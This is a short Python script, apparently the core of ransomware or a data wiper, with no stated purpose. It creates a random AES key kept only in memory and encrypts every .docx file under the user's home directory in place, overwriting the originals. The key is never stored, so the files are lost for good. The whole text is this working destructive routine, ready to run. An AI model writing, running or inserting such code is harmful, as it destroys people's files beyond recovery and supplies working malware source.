from pathlib import Path

from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

KEY = get_random_bytes(32)


def lock(path):
    cipher = AES.new(KEY, AES.MODE_EAX)
    body, tag = cipher.encrypt_and_digest(path.read_bytes())
    path.write_bytes(cipher.nonce + tag + body)


for one in Path.home().rglob("*.docx"):
    lock(one)
